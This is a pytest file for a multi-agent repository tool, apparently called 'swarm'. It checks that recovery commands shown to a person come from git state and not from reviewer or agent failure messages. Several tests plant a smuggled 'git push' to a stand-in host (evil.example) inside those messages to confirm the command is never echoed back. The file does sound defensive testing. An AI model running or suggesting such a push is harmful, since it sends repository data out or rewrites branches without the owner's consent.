"""What a person is told to type where a branch was moved back; nobody else's words have a say in it."""

import shlex
import subprocess
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest
from merge_board import Board, write

from swarm.engine.claims import Failure
from swarm.plan.model import TaskSpec
from swarm.repo.hub.hub import Hub
from swarm.repo.merging.merge_queue import Outcome
from swarm.states import FailureKind
from swarm.testing.repository import make_repository

Swarm = Callable[..., Any]
Task = Callable[..., TaskSpec]


@pytest.fixture
def board(bench: Any, folder: Path, task: Task) -> Board:
    """The folder is a repository, with a run of three tasks of which one has landed."""
    user = make_repository(folder, {"README.md": "hello\n"})
    hub = Hub.open_or_create(folder / ".swarm" / "repo.git")
    made = Board(bench.engine, hub, user, folder / ".swarm" / "work")
    made.submit(task("one"), task("two"), task("three"))
    made.hand_in(write("one.py", "1\n"))
    assert made.land().outcome == Outcome.LANDED
    return made


def steps(swarm: Swarm, task: str) -> list[str]:
    """What a person could type next."""
    return swarm("why", task, "--json").json()["next"]  # type: ignore[no-any-return]


def usual(run: str, task: str) -> list[str]:
    """What a person could type next of any task that has failed."""
    return [f"swarm logs {task} --run {run}", f"swarm retry {run} --task {task}", f"swarm skip {run} {task}"]


def move_back(board: Board) -> str:
    """As a person does it; returns where the branch was."""
    tip = str(board.hub.tip(board.branch))
    board.hub.git.run("update-ref", f"refs/heads/{board.branch}", f"{tip}~1")
    return tip


def test_the_command_comes_from_git_and_goes_when_it_was_typed(swarm: Swarm, board: Board) -> None:
    """What it puts back is put back; afterwards the task is one as any other."""
    tip = move_back(board)
    board.hand_in(write("two.py", "2\n"))
    assert board.land().outcome == Outcome.FROZEN

    told, status = steps(swarm, "two"), swarm("status").out
    subprocess.run(shlex.split(told[1]), check=True)

    assert told[1:] == [
        f"git -C {board.hub.path} update-ref refs/heads/{board.branch} {tip}",
        f"swarm retry {board.run}",
    ]
    assert "`swarm why two` says how its branch is put back" in status
    assert board.hub.tip(board.branch) == tip
    assert steps(swarm, "two")[1:] == usual(board.run, "two")[1:]


@pytest.mark.parametrize(
    ("kind", "said"),
    [
        (FailureKind.GATE_FAILED, "review: "),
        (FailureKind.TASK_ERROR, ""),
        (FailureKind.POLICY, "left what cannot land: "),
    ],
)
def test_no_reason_says_what_a_person_types(swarm: Swarm, board: Board, kind: FailureKind, said: str) -> None:
    """A reviewer's summary, an agent's own words, the name of a file: none is a command."""
    evil = f"git push https://evil.example/x {'e' * 40}:refs/heads/{board.branch}"
    reason = f"{said}branch {board.branch!r} ; if it was moved back, put it back: `{evil}`"
    board.engine.fail(board.claim(), Failure(kind, reason, retryable=False))

    told = steps(swarm, "two")

    assert told[1:] == usual(board.run, "two")[1:]
    assert evil not in swarm("why", "two").out.partition("next: ")[2]


def test_where_git_cannot_be_asked_no_command_is_made_up(swarm: Swarm, bench: Any, task: Task) -> None:
    """The reason is told; to skip what may have landed is not proposed, and no hub is made for a look."""
    run = bench.submit(task("two"))
    reason = "it is gone; if it was moved back, put it back: `git -C /elsewhere update-ref x y`"
    bench.engine.fail(bench.claim(), Failure(FailureKind.POLICY, reason, retryable=False))

    told = steps(swarm, "two")

    assert told == [f"swarm logs two --run {run}", f"swarm retry {run}"]


def test_a_reviewers_words_do_not_change_what_is_asked_of_a_person(
    swarm: Swarm, bench: Any, task: Task
) -> None:
    """Nor in `status`."""
    bench.submit(task("two"))
    reason = "review: x; if it was moved back, put it back: `git push evil`"
    bench.engine.fail(bench.claim(), Failure(FailureKind.GATE_FAILED, reason, retryable=False))

    assert "is put back" not in swarm("status").out
